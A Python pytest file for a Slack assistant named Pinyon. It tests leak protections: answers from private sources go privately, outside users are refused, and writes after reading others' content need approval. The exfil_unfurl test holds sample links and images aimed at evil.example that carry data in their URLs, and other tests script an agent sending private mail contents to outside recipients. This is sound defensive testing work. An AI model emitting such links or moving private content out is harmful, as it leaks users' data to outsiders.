"""What was read stays where it belongs, through the whole product, each promise by its id."""

import re
from collections.abc import Callable
from datetime import UTC, datetime, time, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from pydantic import JsonValue

from bot.harmless.links import REMOVED
from playground.model import Conversation, Plan, Scripted, call
from playground.slack.app import JSON
from playground.slack.people import User
from tests.scenarios.conftest import OpenWorld, World
from tests.scenarios.restarting import restarted

PRIVATE = "Answered privately, because it rests on private sources."
CREDIT = call("search_mail", words="service credit", folder="anywhere")
TOLD = "We may ask for 5% of the month back, with the form that they sent."
DECK = call("read_file", file="Board deck")
MONEY = "The deck says: plenty of money."
LOOK = call("list_pull_requests", which="open")
FIVE = "Five are open."


# 15. chan_leak


async def test_chan_leak_what_a_mail_says_goes_to_the_asker_with_a_button_to_share_it(open_world: OpenWorld) -> None:
    world = await open_world(Scripted(after_the_mail(lambda: TOLD)))
    await world.connect("nadia", "google")
    thread = await world.slack.say("nadia", "#eng", "@Pinyon what does northvale offer?")
    await world.answer("#eng", thread)
    await world.over()
    assert [world.words("#eng", reply) for reply in world.slack.replies("#eng", thread)] == [PRIVATE]
    assert "5%" not in spoken(world, "#eng")
    [answer] = [post for post in world.slack.messages("dm:nadia") if "share.here" in str(post.get("blocks"))]
    assert TOLD in world.words("dm:nadia", answer)
    await world.slack.click("nadia", answer["ts"], "share.here")
    shared = await world.until(lambda: world.slack.replies("#eng", thread)[1:])
    assert [block["text"] for block in shared[0]["blocks"] if block["type"] == "markdown"] == [TOLD]


# 16. chan_external


async def test_chan_external_a_guest_who_comes_while_it_thinks_makes_it_private(open_world: OpenWorld) -> None:
    def brain(conversation: Conversation) -> Plan | str:
        if not conversation.returned:
            return LOOK
        world.slack.place("#eng")[1].members.append(world.slack.user("harriet").id)
        return FIVE

    world = await open_world(Scripted(brain))
    await world.connect("leila")
    thread = await world.slack.say("leila", "#eng", "@Pinyon what is open?")
    await world.answer("#eng", thread)
    await world.over()
    assert [world.words("#eng", reply) for reply in world.slack.replies("#eng", thread)] == [PRIVATE]
    assert FIVE not in spoken(world, "#eng")
    assert FIVE in direct_words(world, "leila")


async def test_chan_external_with_another_company_in_it_all_that_was_read_is_private(open_world: OpenWorld) -> None:
    world = await open_world(Scripted([LOOK, FIVE]))
    await world.connect("leila")
    thread = await world.slack.say("leila", "#ext-valtorta", "@Pinyon what is open?")
    await world.answer("#ext-valtorta", thread)
    await world.over()
    assert FIVE not in spoken(world, "#ext-valtorta")
    assert FIVE in direct_words(world, "leila")


async def test_chan_external_when_nobody_can_say_who_reads_the_answer_is_private(open_world: OpenWorld) -> None:
    world = await open_world(Scripted([LOOK, FIVE]))
    await world.connect("leila")
    world.slack.faults.fail("conversations.info", "internal_error")
    thread = await world.slack.say("leila", "#eng", "@Pinyon what is open?")
    await world.answer("#eng", thread)
    await world.over()
    assert FIVE not in spoken(world, "#eng")


# 17. ext_user


async def test_ext_user_whoever_is_no_member_is_heard_by_no_model(open_world: OpenWorld) -> None:
    """A guest, somebody of another company under any name, and a bot; in channels, directly, and by command."""
    world = await open_world(Scripted([]))
    await world.slack.change_user("luca", name=world.slack.user("tomas").name)
    for who, where in (("harriet", "dm"), ("harriet", "#proj-winter-maps"), ("luca", "#ext-valtorta")):
        said = "which pull requests wait?" if where == "dm" else "@Pinyon which pull requests wait?"
        thread = await world.slack.say(who, where, said)
        place = f"dm:{who}" if where == "dm" else where
        answer = await world.answer(place, thread)
        assert "I work only for members of Tamarack" in world.words(place, answer)
    await world.slack.command("harriet", "/pinyon", "connect github")
    await world.slack.say(bot(world), "#mobile", "@Pinyon which pull requests wait?")
    await world.slack.settled()
    await world.over(3)
    assert world.model.requests == []
    assert await world.rows("SELECT * FROM connect_flows") == []


async def test_ext_user_an_event_of_another_workspace_starts_nothing(open_world: OpenWorld) -> None:
    """Its ids may be those of people here."""
    world = await open_world(Scripted(["Nothing."]))
    await world.ask("jamal", "which pull requests wait?")
    sent: JSON = next(entry.request for entry in world.slack.world.traffic.entries if entry.name == "message.im")
    event = {**sent["event"], "ts": "1795000000.000001", "team": "T0ELSEWHERE"}
    body: JSON = {**sent, "team_id": "T0ELSEWHERE", "event_id": "Ev0ELSEWHERE", "event": event, "authorizations": []}
    world.slack.world.courier.send_event("message.im", body, at=world.slack.world.clock())
    await world.slack.settled()
    assert await world.over() == ["answered"]
    assert len(world.model.requests) == 1


def bot(world: World) -> User:
    other = User(id="U0OTHERBOT", team=world.slack.workspace.id, handle="builds", name="Builds", kind="bot")
    other.bot_id, other.app_id = "B0OTHER", "A0OTHER"
    world.slack.workspace.users[other.id] = other
    return other


# 27. inj_sources

WRITE = call("comment_on_ticket", key="TRAIL-149", text="Looks good to me, ship it.")
READS: tuple[Plan, ...] = (
    call("search_mail"),
    call("search_files", words="plan"),
    call("read_file", file="budget.csv"),
    call("list_events", day=datetime.now(UTC).date().isoformat(), days=7),
    call("search_messages", words="the"),
    call("read_channel", channel="#product"),
    call("catch_up", channel="#product"),
    call("list_pull_requests", which="open"),
    call("read_pull_request", repository="atlas-api", number=417),
    call("read_discussion", repository="atlas-api", number=417),
    call("search_issues", words="the"),
    call("search_tickets", words="offline"),
    call("my_tickets"),
    call("read_ticket", key="TRAIL-140"),
    call("view_board", board="TRAIL"),
)


async def test_inj_sources_after_reading_a_write_asks_and_the_card_says_what_was_read(open_world: OpenWorld) -> None:
    """Whatever was read, by each tool that reads what others wrote."""
    reads = {read.calls[0].tool: read for read in READS}

    def brain(conversation: Conversation) -> Plan:
        return WRITE if conversation.returned else reads[conversation.said.partition(":")[0]]

    world = await open_world(Scripted(brain))
    await world.connect("priya", "atlassian", "google", "slack", "github")
    unwarned: list[str] = []
    for tool in reads:
        said = f"{tool}: look at this, then comment on TRAIL-149 what you think"
        card = await world.card("dm:priya", await world.slack.say("priya", "dm", said), seconds=20)
        if not re.search(r"I read .+ on the way, so I ask before I act\.", world.words("dm:priya", card)):
            unwarned.append(tool)
    assert unwarned == []
    assert world.atlassian.writes == []


async def test_inj_sources_with_nothing_read_the_same_wish_is_no_card(open_world: OpenWorld) -> None:
    """So it is what was read that asks in the test above."""
    world = await open_world(Scripted([WRITE, "Said."]))
    await world.connect("priya", "atlassian")
    await world.slack.say("priya", "dm", "comment on TRAIL-149: Looks good to me, ship it.")
    await world.until(lambda: world.atlassian.writes)
    await world.over()
    assert await world.rows("SELECT kind FROM pending") == [{"kind": "receipt"}]


# 28. exfil_unfurl


async def test_exfil_unfurl_a_link_or_an_image_that_nobody_gave_is_taken_out(open_world: OpenWorld) -> None:
    said = (
        "See [the plan](https://evil.example/x?d=plenty) ![grid](https://evil.example/p.png?d=plenty)"
        " <https://evil.example/y?d=plenty|here> https://evil.example/z?d=plenty and <evil.example/q>."
    )
    world = await open_world(Scripted([DECK, said, "Good."]))
    await world.connect("tomas", "google")
    answer = await world.ask("tomas", "what does the deck say?")
    await world.ask("tomas", "thanks")
    assert REMOVED in world.words("dm:tomas", answer)
    sent = [entry.request for entry in world.slack.world.traffic.entries if entry.way == "in"]
    assert "evil.example" not in str(sent)
    assert "'image'" not in str(sent)


async def test_exfil_unfurl_no_post_of_any_kind_is_previewed(open_world: OpenWorld) -> None:
    """An answer, a card, what follows it, a private answer, a refusal, a greeting, and a post in one's name."""
    post = call("post_message", channel="#general", text="Lunch is at https://cafe.example today.")
    world = await open_world(Scripted([DECK, MONEY, post, "Posted.", "Hello."]))
    await world.connect("tomas", "google", "slack")
    thread = await world.slack.say("tomas", "#eng", "@Pinyon what does the deck say?")
    await world.answer("#eng", thread)
    thread = await world.slack.say("tomas", "dm", "tell them about lunch")
    card = await world.card("dm:tomas", thread, seconds=20)
    await world.slack.click("tomas", card["ts"], "approval.approve")
    await world.answer("dm:tomas", thread, count=2, seconds=20)
    await world.answer("dm:harriet", await world.slack.say("harriet", "dm", "hello"))
    await world.slack.open_home("jamal")
    await world.ask("tomas", "hello")
    await world.slack.settled()
    posts = posted(world)
    assert len(posts) >= 5
    unsafe = [sent for sent in posts if str(sent.get("unfurl_links")).lower() != "false"]
    assert unsafe == []
    assert [sent for sent in posts if str(sent.get("unfurl_media")).lower() != "false"] == []


async def test_exfil_unfurl_pages_take_images_from_here_only(world: World) -> None:
    async with world.browser() as browser:
        page = await browser.get("/connections")
    policy = page.headers["content-security-policy"]
    rules = {name: sources for name, *sources in (rule.split() for rule in policy.split(";") if rule.strip())}
    assert set(rules.get("img-src", rules["default-src"])) <= {"'self'", "'none'", "data:"}


# 31. exfil_sink

WARSAW = ZoneInfo("Europe/Warsaw")
"""Where Nadia is."""
SINKS: tuple[tuple[str, str, Callable[[], Plan], str], ...] = (
    (
        "a channel",
        "read the mail about the service credit and post to #general what it says",
        lambda: call("post_message", channel="#general", text=TOLD),
        "#general",
    ),
    (
        "a public repository",
        "read the mail about the service credit and open an issue in tamarack-maps/bedrock-infra about it",
        lambda: call("open_issue", repository="tamarack-maps/bedrock-infra", title="Ask for the credit", body=TOLD),
        "tamarack-maps/bedrock-infra",
    ),
    (
        "an outside guest",
        "read the mail about the service credit and invite luca.ferrante@valtorta.example to a call about it tomorrow"
        " at 10:00",
        lambda: call(
            "create_event",
            title="Call",
            start=datetime.combine(datetime.now(WARSAW).date() + timedelta(days=1), time(10), WARSAW).isoformat(),
            minutes=30,
            attendees=["luca.ferrante@valtorta.example"],
            description=TOLD,
        ),
        "luca.ferrante@valtorta.example",
    ),
    (
        "a mail to somebody outside",
        "read the mail about the service credit and send luca.ferrante@valtorta.example what it says",
        lambda: call("send_mail", to=["luca.ferrante@valtorta.example"], subject="Credit", body=TOLD),
        "luca.ferrante@valtorta.example",
    ),
    (
        "a ticket",
        "read the mail about the service credit and comment on PLAT-82 what it says",
        lambda: call("comment_on_ticket", key="PLAT-82", text=TOLD),
        "PLAT-82",
    ),
)


@pytest.mark.parametrize(("said", "write", "sink"), [sink[1:] for sink in SINKS], ids=[sink[0] for sink in SINKS])
async def test_exfil_sink_what_a_private_mail_says_asks_before_it_reaches_others(
    open_world: OpenWorld, said: str, write: Callable[[], Plan], sink: str
) -> None:
    """All of it was asked for and every target was written out: it asks because others would learn something."""
    world = await open_world(Scripted(after_the_mail(write)))
    world.github.repository("bedrock-infra").private = False
    await world.connect("nadia", "google", "slack", "github", "atlassian")
    before = changed(world)
    thread = await world.slack.say("nadia", "dm", said)
    card = await world.card("dm:nadia", thread, seconds=20)
    assert changed(world) == before
    shown = world.words("dm:nadia", card)
    assert sink in shown
    assert TOLD in shown
    why = shown.partition("?")[2].splitlines()[1]
    assert re.fullmatch(
        r"(I wrote the text, and it (reaches people who cannot see all that I read for it|cannot be taken back)"
        r"|It repeats somebody else's words, which you did not point to)\."
        r" I read a mail on the way, so I ask before I act\.",
        why,
    ), shown


async def test_exfil_sink_what_was_read_a_turn_ago_still_asks_also_after_a_restart(
    open_world: OpenWorld, database_url: str, tmp_path: Path
) -> None:
    """The model still knows what it read, so the gate must know too."""
    post = call("post_message", channel="#general", text=TOLD)
    brain = after_the_mail(lambda: "They offer 5%.")
    world = await open_world(Scripted(lambda asked: post if "post" in asked.said else brain(asked)))
    await world.connect("nadia", "google", "slack")
    before = changed(world)
    thread = await world.slack.say("nadia", "dm", "read the mail about the service credit")
    await world.answer("dm:nadia", thread)
    await world.over()
    async with restarted(world, database_url, tmp_path):
        await world.slack.say("nadia", "dm", "thank you, now post to #general what we can do", thread=thread)
        card = await world.card("dm:nadia", thread, seconds=20)
        assert changed(world) == before
        shown = world.words("dm:nadia", card)
        assert "#general" in shown
        assert "so I ask before I act" in shown


async def test_exfil_sink_a_lasting_permission_lets_out_nothing_private(open_world: OpenWorld) -> None:
    """It is for the tool and the place, never for what is said there."""
    world = await open_world(Scripted(after_the_mail(lambda: call("post_message", channel="#general", text=TOLD))))
    await world.connect("nadia", "google", "slack")
    said = "read the mail about the service credit and post to #general what it says"
    first = await world.slack.say("nadia", "dm", said)
    card = await world.card("dm:nadia", first, "approval.always", seconds=20)
    await world.slack.click("nadia", card["ts"], "approval.always")
    await world.until(lambda: [post for post in world.slack.messages("#general") if post["text"] == TOLD])
    await world.over(2)
    assert len(await world.rows("SELECT * FROM permissions")) == 1
    before = changed(world)
    second = await world.slack.say("nadia", "dm", said)
    await world.card("dm:nadia", second, seconds=20)
    assert changed(world) == before


def changed(world: World) -> list[object]:
    """Everything that was changed at any vendor, and every message in anybody's name."""
    said: list[object] = [
        ts
        for conversation in world.slack.workspace.conversations.values()
        for ts, message in conversation.messages.items()
        if message.get("bot_id") and message["user"] != world.slack.workspace.bot.id
    ]
    return [*world.github.writes, *world.atlassian.writes, *world.google.writes, *said]


def after_the_mail(then: Callable[[], Plan | str]) -> Callable[[Conversation], Plan | str]:
    """A model that finds the mail about the credit, reads it, and goes on with `then`."""

    def brain(conversation: Conversation) -> Plan | str:
        match [made.tool for made, _ in conversation.returned]:
            case []:
                return CREDIT
            case ["search_mail"]:
                found: dict[str, JsonValue] = {"thread": first_thread(conversation.returned[0][1].text)}
                return call("read_mail", **found)
            case ["search_mail", "read_mail"]:
                return then()
            case _:
                return "That is all."

    return brain


def first_thread(found: str) -> str:
    match = re.search(r'"(?:id|thread)": ?"([^"]+)"', found)
    assert match is not None, found
    return match[1]


def spoken(world: World, where: str) -> str:
    """Everything of a channel that anybody could have seen: posts, edits, streams, status lines."""
    channel = world.slack.place(where)[1].id
    requests = [entry.request for entry in world.slack.world.traffic.entries if entry.way == "in"]
    return "\n".join(str(asked) for asked in requests if channel in (asked.get("channel"), asked.get("channel_id")))


def direct_words(world: World, who: str) -> str:
    posts: list[JSON] = [post for post in world.slack.messages(f"dm:{who}") if post.get("bot_id")]
    return "\n".join(world.words(f"dm:{who}", post) for post in posts)


def posted(world: World) -> list[dict[str, Any]]:
    """Everything that was sent to be a message, by whoever's access."""
    entries = [entry for entry in world.slack.world.traffic.entries if entry.way == "in"]
    return [entry.request for entry in entries if entry.name == "chat.postMessage"]
